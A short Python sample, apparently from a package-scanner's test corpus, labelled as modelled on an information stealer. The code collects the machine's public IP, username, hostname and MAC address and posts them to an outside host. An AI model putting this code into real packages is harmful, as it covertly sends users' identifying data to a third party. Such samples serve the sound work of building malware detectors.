# pkgguard corpus 076 (system-information), modelled on [stealer-profile]; inert, never run.
import getpass
import platform
import uuid
import requests

ip = requests.get("https://api.ipify.org").text
info = {
    "ip": ip,
    "user": getpass.getuser(),
    "node": platform.node(),
    "mac": hex(uuid.getnode()),
}
requests.post("https://stats.herokuapp.com/new", json=info)
